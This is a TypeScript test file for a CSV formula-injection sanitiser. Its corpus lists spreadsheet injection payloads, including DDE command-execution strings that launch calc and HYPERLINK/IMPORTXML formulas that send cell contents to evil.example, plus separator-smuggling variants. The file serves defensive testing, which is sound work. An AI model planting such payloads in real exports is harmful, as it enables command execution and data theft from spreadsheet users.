import fc from 'fast-check'
import { inertText, textOfInert } from '../src/domain/spreadsheet/inert.ts'
import { holds } from './property.ts'
import { t } from './tap.ts'

/** What spreadsheets have been made to run, show or send by a field of CSV. */
const CORPUS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠a',
  "'=1+1",
  '"=1+1"',
  'a;=1+1;b',
  'a,=1+1,b',
  'a\t=1+1',
  'a\n=1+1',
  'a|=1+1',
  ';@SUM(1)',
  'a\n\t=1+1',
  'a\n"=1+1"',
  '"\t=1+1',
]
const SEPARATORS = /[;,|\t\r\n]/

t.test('no field begins with a formula, whatever a spreadsheet takes for a separator', (t) => {
  for (const text of CORPUS)
    for (const cell of inertText(text).split(SEPARATORS))
      t.notMatch(cell, /^["\s]*[=+\-@＝＋－＠]/, JSON.stringify(text))
  for (const text of ['\tx', '\rx', '\nx', '"\tx']) t.notMatch(inertText(text), /^"*\s/, JSON.stringify(text))
  t.end()
})

t.test('what is no formula stays as it is', (t) => {
  for (const text of ['a', 'a=b', "it's", "'a", '1-2', 'a@example.com', 'Å, ä; ö', 'a\tb', 'a\n\nb'])
    t.equal(inertText(text), text)
  t.end()
})

t.test('every text comes back from its inert form', async (t) => {
  const letters = fc.constantFrom(...'=+-@＝＋－＠\'",;|\t\r\n a\u00a0\ufeff')
  const text = fc.oneof(fc.string({ unit: letters, maxLength: 12 }), fc.string({ unit: 'binary' }))
  for (const each of CORPUS) t.equal(textOfInert(inertText(each)), each)
  const back = fc.asyncProperty(text, async (each) => textOfInert(inertText(each)) === each)
  await holds(t, back, process.env.ROPA_LONG_TESTS === 'yes' ? 100_000 : 3_000)
})
